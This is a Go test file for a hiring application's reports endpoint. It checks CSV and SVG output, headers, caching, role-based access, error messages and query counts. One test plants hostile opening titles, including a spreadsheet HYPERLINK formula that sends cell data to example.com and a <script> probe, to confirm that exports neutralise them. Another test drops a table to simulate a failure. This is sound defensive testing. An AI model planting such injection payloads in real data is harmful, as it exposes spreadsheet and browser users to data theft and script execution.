package reports_test

import (
	"cmp"
	"context"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"hireloop/demo"
	"hireloop/hiring"
	"hireloop/interchange"
	"hireloop/internal/access"
	"hireloop/internal/gid"
	"hireloop/internal/reports"
	"hireloop/internal/store"
	"hireloop/internal/testdb"
)

var update = flag.Bool("update", false, "rewrite the files in testdata")

// now is when all tests happen.
var now = time.Date(2026, 6, 30, 12, 0, 0, 0, time.UTC)

// world is the demo data, the same on both engines.
var world struct {
	sync.Mutex
	*demo.World
}

var template = testdb.Template{Name: "demo", Prepare: func(ctx context.Context, d *store.DB) error {
	if _, err := store.Migrate(ctx, d); err != nil {
		return err
	}
	if err := newService(d).InstallBuiltin(ctx); err != nil {
		return err
	}
	w, err := demo.Load(ctx, d, demo.Options{Seed: 1, Applications: 600, Now: now})
	world.Lock()
	defer world.Unlock()
	world.World = w
	return err
}}

func newService(d *store.DB) *hiring.Service {
	clock := func() time.Time { return now }
	client := hiring.NewClient(d)
	return &hiring.Service{Store: d, DB: client, IDs: gid.NewGenerator(clock, nil), Now: clock}
}

// site is reports served over one database.
type site struct {
	*hiring.Service
	handler http.Handler
}

func newSite(d *store.DB) *site {
	s := newService(d)
	return &site{s, reports.NewHandler(s)}
}

// eachSite runs fn over demo data on both engines.
func eachSite(t *testing.T, fn func(t *testing.T, s *site)) {
	t.Helper()
	testdb.EachFrom(t, template, func(t *testing.T, d *store.DB) { fn(t, newSite(d)) })
}

// as is the viewer of a role; nil for nobody.
func (s *site) as(t testing.TB, role access.Role) *access.Viewer {
	t.Helper()
	id := map[access.Role]gid.ID{
		access.Admin: world.Admin, access.Recruiter: world.Recruiter, access.HiringManager: world.HiringManager,
		access.Interviewer: world.Interviewer, access.Analyst: world.Analyst,
	}[role]
	if id.IsNil() {
		return nil
	}
	m := s.DB.Member.GetX(access.System(t.Context()), id)
	v := &access.Viewer{Member: id}
	for _, r := range m.Roles {
		v.Roles = append(v.Roles, access.Role(r))
	}
	return v
}

// get asks for a path below /reports/; header is names and values.
func (s *site) get(t testing.TB, v *access.Viewer, method, path string, header ...string) *http.Response {
	t.Helper()
	ctx := t.Context()
	if v != nil {
		ctx = access.WithViewer(ctx, v)
	}
	r := httptest.NewRequestWithContext(ctx, method, "/reports/"+path, nil)
	for i := 0; i < len(header); i += 2 {
		r.Header.Add(header[i], header[i+1])
	}
	w := httptest.NewRecorder()
	s.handler.ServeHTTP(w, r)
	return w.Result()
}

// path is a path in which {key} is the id of an opening.
func (s *site) path(text string) string {
	for key, id := range world.Openings {
		text = strings.ReplaceAll(text, "{"+key+"}", id.String())
	}
	return text
}

func body(t testing.TB, r *http.Response) string {
	t.Helper()
	text, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

const year = "from=2025-07-01&to=2026-07-01"

// files are the reports that testdata holds.
var files = []struct {
	name, path string
	who        access.Role // recruiter when empty
}{
	{"funnel", "funnel?" + year, ""},
	{"funnel_by_source", "funnel?" + year + "&groupBy=SOURCE", ""},
	{"activity", "funnelActivity?from=2026-06-01&to=2026-07-01", ""},
	{"activity_by_month", "funnelActivity?from=2026-01-01&to=2026-07-01&interval=MONTH", ""},
	{"snapshot", "funnelSnapshot", ""},
	{"snapshot_by_opening", "funnelSnapshot?groupBy=OPENING", ""},
	{"stage_times", "stageTimes?" + year, ""},
	{"hire_times", "hireTimes?" + year, access.Recruiter},
	{"hire_times_by_opening", "hireTimes?" + year + "&groupBy=OPENING", access.HiringManager},
	{"sources", "sourceEffectiveness?" + year, ""},
	{"sources_by_quarter", "sourceEffectiveness?" + year + "&interval=QUARTER", ""},
	{"levels", "levelOutcomes?" + year, ""},
	{"forecast", "hireForecast?openingId={platform_reliability}&horizonDays=120&points=30", ""},
	{"calibration", "calibration?" + year, access.Admin},
	{"calibration_own", "calibration?" + year, access.Interviewer},
	{"adverse_impact", "adverseImpact?from=2026-01-01&to=2026-04-01&stage=APPLIED&attribute=GENDER", access.Analyst},
}

// Every report is the same file on both engines and on any day, as CSV and as a
// picture.
func TestReportsAreTheseFiles(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		for _, f := range files {
			for _, form := range []string{"csv", "svg"} {
				name, query, _ := strings.Cut(s.path(f.path), "?")
				response := s.get(t, s.as(t, cmp.Or(f.who, access.Recruiter)), http.MethodGet, name+"."+form+"?"+query)
				got := ids(body(t, response))
				if response.StatusCode != http.StatusOK {
					t.Errorf("%s: %d %s", f.path, response.StatusCode, got)
					continue
				}
				file := filepath.Join("testdata", f.name+"."+form)
				if *update {
					if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				if diff := gocmp.Diff(string(want), got); diff != "" {
					t.Errorf("%s as %s: -want +got\n%s", f.path, form, diff)
				}
			}
		}
	})
}

var idText = regexp.MustCompile(`\b([a-z]+(?:_[a-z]+)*)_[0-9a-hjkmnp-tv-z]{26}\b`)

// ids numbers ids as they first appear: the demo makes others every time.
func ids(text string) string {
	known := map[string]string{}
	return idText.ReplaceAllStringFunc(text, func(id string) string {
		if known[id] == "" {
			known[id] = fmt.Sprintf("%s#%d", id[:strings.LastIndexByte(id, '_')], len(known)+1)
		}
		return known[id]
	})
}

// What a spreadsheet or a wiki page needs to know of a file is in its headers.
func TestHeaders(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		for form, want := range map[string]map[string]string{
			"csv": {
				"Content-Type":        "text/csv; charset=utf-8; header=present",
				"Content-Disposition": `attachment; filename="funnel-2026-06-30.csv"`,
			},
			"svg": {"Content-Type": "image/svg+xml", "Content-Disposition": ""},
		} {
			r := s.get(t, s.as(t, access.Analyst), http.MethodGet, "funnel."+form+"?"+year)
			want["X-Content-Type-Options"], want["Vary"] = "nosniff", "Authorization"
			want["Cache-Control"] = "private, max-age=0, must-revalidate"
			want["Content-Security-Policy"] = "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'"
			for name, value := range want {
				if got := r.Header.Get(name); got != value {
					t.Errorf("%s: %s is %q, want %q", form, name, got, value)
				}
			}
			head := s.get(t, s.as(t, access.Analyst), http.MethodHead, "funnel."+form+"?"+year)
			if text := body(t, head); head.StatusCode != http.StatusOK || text != "" {
				t.Errorf("%s: HEAD answers %d with %d bytes", form, head.StatusCode, len(text))
			}
			for name, value := range want {
				if got := head.Header.Get(name); got != value {
					t.Errorf("%s: %s of HEAD is %q, want %q", form, name, got, value)
				}
			}
		}
	})
}

// A version holds for one viewer, query and event. That it is known is told to
// those only who may read the report.
func TestVersions(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		analyst := s.as(t, access.Analyst)
		tag := func(v *access.Viewer, path string) string {
			return s.get(t, v, http.MethodHead, path).Header.Get("ETag")
		}
		first := tag(analyst, "funnel.csv?"+year)
		if first == "" || tag(analyst, "funnel.csv?to=2026-07-01&from=2025-07-01") != first {
			t.Error("the same query has another version")
		}
		past := tag(analyst, "funnel.csv?"+year+"&asOf=2026-06-01T00:00:00Z")
		for what, other := range map[string]string{
			"another viewer": tag(s.as(t, access.Admin), "funnel.csv?"+year), "another form": tag(analyst, "funnel.svg?"+year),
			"another report": tag(analyst, "funnelActivity.csv?"+year), "another query": tag(analyst, "funnel.csv?"+year+"&groupBy=SOURCE"),
			"another moment": past,
		} {
			if other == first || other == "" {
				t.Errorf("%s has the version %q, too", what, other)
			}
		}
		for later, same := range map[time.Duration]bool{59 * time.Second: true, time.Minute: false} {
			s.Now = func() time.Time { return now.Add(later) }
			if (tag(analyst, "funnel.csv?"+year) == first) != same {
				t.Errorf("after %s the version is the same: want %v", later, same)
			}
			if fixed := "funnel.csv?" + year + "&asOf=2026-06-01T00:00:00Z"; tag(analyst, fixed) != past {
				t.Errorf("after %s the version of a past moment is another", later)
			}
		}
		s.Now = func() time.Time { return now }
		known := []string{"If-None-Match", `"another", ` + first}
		r := s.get(t, analyst, http.MethodGet, "funnel.csv?"+year, known...)
		if text := body(t, r); r.StatusCode != http.StatusNotModified || text != "" || r.Header.Get("ETag") != first || r.Header.Get("Content-Type") != "" {
			t.Errorf("who has it already gets %d, %v, %q", r.StatusCode, r.Header, text)
		}
		for who, want := range map[access.Role]int{access.Interviewer: http.StatusForbidden, "": http.StatusUnauthorized} {
			if r := s.get(t, s.as(t, who), http.MethodGet, "funnel.csv?"+year, known...); r.StatusCode != want {
				t.Errorf("%s gets %d, want %d", who, r.StatusCode, want)
			}
		}
		recruiter := access.WithViewer(t.Context(), s.as(t, access.Recruiter))
		candidate, err := s.CreateCandidate(recruiter, hiring.CreateCandidateInput{Name: "Somebody New"})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s.CreateApplication(recruiter, hiring.CreateApplicationInput{
			CandidateID: candidate, OpeningID: world.Openings["platform_reliability"],
		}); err != nil {
			t.Fatal(err)
		}
		if tag(analyst, "funnel.csv?"+year) == first {
			t.Error("after an event the version is the same")
		}
	})
}

// Rules are those of the contract: who reads no funnels reads no reports, and an
// opening that one does not see is counted as left out.
func TestRules(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		const impact = "adverseImpact.csv?from=2025-04-01&to=2026-04-01&stage=APPLIED&attribute=GENDER"
		secret := "funnel.csv?" + year + "&openingId=" + world.Openings["payments_succession"].String()
		for _, c := range []struct {
			rule   string
			who    access.Role
			path   string
			status int
			text   string
		}{
			{"nobody", "", "funnel.csv", 401, "sign in first\n"},
			{"nobody learns which reports there are", "", "nonsense.csv", 401, "sign in first\n"},
			{"interviewers read none", access.Interviewer, "funnel.csv", 403, "you may not read what openings add up to\n"},
			{"interviewers read none as pictures", access.Interviewer, "funnelSnapshot.svg", 403, "you may not read what openings add up to\n"},
			{"analysts read", access.Analyst, "funnel.csv", 200, ""},
			{"hiring managers read", access.HiringManager, "stageTimes.svg", 200, ""},
			{"interviewers see how they compare", access.Interviewer, "calibration.csv", 200, ""},
			{"and nobody else by name", access.Interviewer, "calibration.csv?interviewerId=" + world.Admin.String(), 403, "you may ask for yourself only\n"},
			{"recruiters compare no groups of people", access.Recruiter, impact, 403, "only analysts and administrators compare groups of people\n"},
			{"analysts do", access.Analyst, impact, 200, ""},
			{"no forecast of what one does not see", access.Analyst, s.path("hireForecast.csv?openingId={payments_succession}"), 404, "openingId: no such opening\n"},
		} {
			r := s.get(t, s.as(t, c.who), http.MethodGet, c.path)
			if text := body(t, r); r.StatusCode != c.status || c.text != "" && text != c.text {
				t.Errorf("%s: %d %q, want %d %q", c.rule, r.StatusCode, text, c.status, c.text)
			}
		}
		names := s.DB.Member.Query().AllX(access.System(t.Context()))
		own := body(t, s.get(t, s.as(t, access.Interviewer), http.MethodGet, "calibration.csv?"+year)) +
			body(t, s.get(t, s.as(t, access.Interviewer), http.MethodGet, "calibration.svg?"+year))
		for _, m := range names {
			if got := strings.Contains(own, m.Name); got != (m.ID == world.Interviewer) {
				t.Errorf("an interviewer's calibration names %s: %v", m.Name, got)
			}
		}
		if text := body(t, s.get(t, s.as(t, access.Analyst), http.MethodGet, secret)); strings.Count(text, "\n") != 1 {
			t.Errorf("an analyst reads of a confidential opening:\n%s", text)
		}
		if text := body(t, s.get(t, s.as(t, access.Analyst), http.MethodGet, strings.Replace(secret, "csv", "svg", 1))); !strings.Contains(text, "in 0 openings, 1 left out") {
			t.Errorf("a picture does not say that an opening is left out:\n%s", text)
		}
	})
}

// What is wrong with a request is told in plain text that names the parameter.
func TestRefusals(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		member := world.Admin.String()
		source := s.DB.Source.Query().FirstIDX(access.System(t.Context())).String()
		for _, c := range []struct {
			rule, method, path string
			status             int
			text               string
		}{
			{"an unknown report", "GET", "nonsense.csv", 404, "there is no such report"},
			{"an unknown form", "GET", "funnel.pdf", 404, "there is no such report"},
			{"no form", "GET", "funnel", 404, "there is no such report"},
			{"a form below a form", "GET", "funnel.csv/x", 404, "there is no such report"},
			{"another method", "POST", "funnel.csv", 405, "reports are read only: use GET"},
			{"an unknown parameter", "GET", "funnel.csv?form=2025-07-01", 400, `the report has no parameter "form"`},
			{"a parameter of another report", "GET", "funnel.csv?points=3", 400, `the report has no parameter "points"`},
			{"spelling", "GET", "funnel.csv?openingIds=x", 400, `the report has no parameter "openingIds"`},
			{"markup in a name", "GET", "funnel.csv?%3Cscript%3E%0A=1", 400, `the report has no parameter "<script>\n"`},
			{"a query that is none", "GET", "funnel.csv?from=%zz", 400, "the query is not made of name=value, joined by &, with %xx for what is special"},
			{"a repeated single one", "GET", "funnel.csv?from=2025-07-01&from=2025-08-01", 400, "from: is given 2 times"},
			{"a day that is none", "GET", "funnel.csv?from=2025-02-30", 400, "from: not a Date, such as 2026-03-31"},
			{"a moment that is none", "GET", "funnel.csv?asOf=2026-06-01", 400, "asOf: not a DateTime of RFC 3339, such as 2026-03-31T09:00:00Z"},
			{"a moment to come", "GET", "funnel.csv?asOf=2027-01-01T00:00:00Z", 400, "asOf: is in the future"},
			{"an id that is none", "GET", "funnel.csv?openingId=17", 400, "openingId.0: not an id of this API (send ids as you got them)"},
			{"an id of another kind", "GET", "funnel.csv?sourceId=" + member, 400,
				"sourceId.0: is the id of another kind of thing (an id that begins with source_ is wanted)"},
			{"a value that is none", "GET", "funnel.csv?groupBy=department", 400, "groupBy: must be one of its values, spelled exactly"},
			{"a zone that is none", "GET", "funnel.csv?timeZone=Berlin", 400, "timeZone: is no zone that IANA names (write it as Europe/Berlin)"},
			{"days in the wrong order", "GET", "funnel.csv?from=2026-01-01&to=2025-01-01", 400, "from: is not before to, 2025-01-01"},
			{"own stages of many", "GET", "funnel.csv?stages=OWN", 400,
				"stages: OWN tells the stages of exactly one opening apart, not of 7 (name one in openingId)"},
			{"periods of a moment", "GET", "funnelSnapshot.csv?interval=WEEK", 400, "interval: a moment has no periods"},
			{"points that are no number", "GET", "stageTimes.csv?points=many", 400, "points: is no whole number"},
			{"too many points", "GET", "stageTimes.svg?points=367", 400, "points: is 367, not 1 to 366"},
			{"points of the far end", "GET", "stageTimes.csv?points=0", 400, "points: is 0, not 1 to 366"},
			{"what must be said", "GET", "adverseImpact.csv?stage=APPLIED&from=soon", 400,
				"attribute: is required\nfrom: not a Date, such as 2026-03-31\nto: is required"},
			{"a forecast of nothing", "GET", "hireForecast.csv", 400, "openingId: is required"},
			{"a forecast of two", "GET", "hireForecast.csv?openingId=x&openingId=y", 400, "openingId: is given 2 times"},
			{"a forecast of what is no opening", "GET", "hireForecast.csv?openingId=" + member, 404, "openingId: no such opening"},
			{"a confidence that is none", "GET", s.path("hireForecast.csv?openingId={growth}&confidence=NaN"), 400, "confidence: is no number"},
			{"too far ahead", "GET", s.path("hireForecast.csv?openingId={growth}&horizonDays=366"), 400, "horizonDays: must be between 7 and 365"},
			{"too few points", "GET", s.path("hireForecast.svg?openingId={growth}&points=1"), 400, "points: is 1, not 2 to 366"},
			{"a switch that is none", "GET", "calibration.csv?includeShadows=1", 400, "includeShadows: must be one of its values, spelled exactly"},
			{"sources of interviewers", "GET", "calibration.csv?sourceId=" + source, 400, "sourceId: has no meaning for interviewers"},
			{"groups of sources", "GET", "sourceEffectiveness.csv?groupBy=OPENING", 400,
				"groupBy: sources are told apart already (choose the rest by filterBy)"},
			{"all that is wrong at once", "GET", "funnel.csv?from=x&stages=x&x=x", 400,
				"from: not a Date, such as 2026-03-31\nstages: must be one of its values, spelled exactly\nthe report has no parameter \"x\""},
		} {
			r := s.get(t, s.as(t, access.Recruiter), c.method, c.path)
			text := body(t, r)
			if r.StatusCode != c.status || text != c.text+"\n" {
				t.Errorf("%s: %d %q, want %d %q", c.rule, r.StatusCode, text, c.status, c.text)
			}
			for name, want := range map[string]string{
				"Content-Type": "text/plain; charset=utf-8", "X-Content-Type-Options": "nosniff", "Cache-Control": "no-store", "ETag": "",
			} {
				if got := r.Header.Get(name); got != want {
					t.Errorf("%s: %s is %q, want %q", c.rule, name, got, want)
				}
			}
			if c.status == http.StatusMethodNotAllowed && r.Header.Get("Allow") != "GET, HEAD" {
				t.Errorf("%s: Allow is %q", c.rule, r.Header.Get("Allow"))
			}
		}
	})
}

// What is not the client's fault is told without its cause.
func TestFailures(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		v := s.as(t, access.Recruiter)
		ask := func(ctx context.Context) (int, string) {
			w := httptest.NewRecorder()
			s.handler.ServeHTTP(w, httptest.NewRequestWithContext(access.WithViewer(ctx, v), http.MethodGet, "/reports/funnel.csv", nil))
			return w.Code, w.Body.String()
		}
		late, cancel := context.WithDeadline(t.Context(), time.Unix(0, 0))
		defer cancel()
		if status, text := ask(late); status != http.StatusGatewayTimeout || text != "the report took too long\n" {
			t.Errorf("after the deadline: %d %q", status, text)
		}
		gone, cancel := context.WithCancel(t.Context())
		cancel()
		if status, text := ask(gone); status != http.StatusServiceUnavailable || text != "the request was cancelled\n" {
			t.Errorf("without a client: %d %q", status, text)
		}
		if _, err := s.Store.SQL().ExecContext(t.Context(), "DROP TABLE hiring_team_members"); err != nil {
			t.Fatal(err)
		}
		if status, text := ask(t.Context()); status != http.StatusInternalServerError || strings.Contains(text, "hiring_team") {
			t.Errorf("without a table: %d %q", status, text)
		}
	})
}

// Names that people give cannot make a spreadsheet or a browser do anything, and
// an import reads them as they are.
func TestNamesAreOnlyNames(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		titles := map[string]string{
			"growth": "=HYPERLINK(\"http://example.com\"&A1)", "mobile": "<script>alert(1)</script> & \"so on\"",
			"ecosystem_integrations": "'@quoted, with a comma", "executive_reporting": " -2+3",
		}
		for key, title := range titles {
			s.DB.Opening.UpdateOneID(world.Openings[key]).SetTitle(title).ExecX(access.System(t.Context()))
		}
		file := body(t, s.get(t, s.as(t, access.Recruiter), http.MethodGet, "funnel.csv?groupBy=OPENING&"+year))
		in, err := interchange.ReadCSV(strings.NewReader(file))
		if err != nil {
			t.Fatal(err)
		}
		found := map[string]string{}
		for rec, more := in.Next(); more; rec, more = in.Next() {
			found[rec.Fields[in.Place("groupid")]] = rec.Fields[in.Place("groupname")]
		}
		picture := body(t, s.get(t, s.as(t, access.Recruiter), http.MethodGet, "funnel.svg?groupBy=OPENING&"+year))
		texts := strings.Join(reports.Texts(t, []byte(picture)), "\n")
		for key, title := range titles {
			if got := found[world.Openings[key].String()]; got != title {
				t.Errorf("%q was imported as %q", title, got)
			}
			if !strings.Contains(texts, title) {
				t.Errorf("the picture does not name %q", title)
			}
		}
		for _, cell := range []string{"\"'=HYPERLINK(", "\"''@quoted", ",' -2+3,"} {
			if !strings.Contains(file, cell) {
				t.Errorf("the file has no cell %s", cell)
			}
		}
	})
}

// How many statements a report takes does not depend on how many rows it has. One
// of them records that it was taken away.
func TestStatementsAreFew(t *testing.T) {
	eachSite(t, func(t *testing.T, s *site) {
		v := s.as(t, access.Recruiter)
		if _, err := s.LoadPipelines(access.WithViewer(t.Context(), v)); err != nil {
			t.Fatal(err)
		}
		for path, most := range map[string]int{
			"funnel.csv?" + year: 4, "funnel.svg?groupBy=OPENING&interval=WEEK&" + year: 4, "stageTimes.csv?groupBy=DEPARTMENT&" + year: 5,
		} {
			ctx, statements := store.CountStatements(access.WithViewer(t.Context(), v))
			w := httptest.NewRecorder()
			s.handler.ServeHTTP(w, httptest.NewRequestWithContext(ctx, http.MethodGet, "/reports/"+path, nil))
			if w.Code != http.StatusOK || statements.Count() > most {
				t.Errorf("%s: %d after %d statements, want at most %d:\n%s", path, w.Code, statements.Count(), most, strings.Join(statements.List(), "\n"))
			}
		}
	})
}
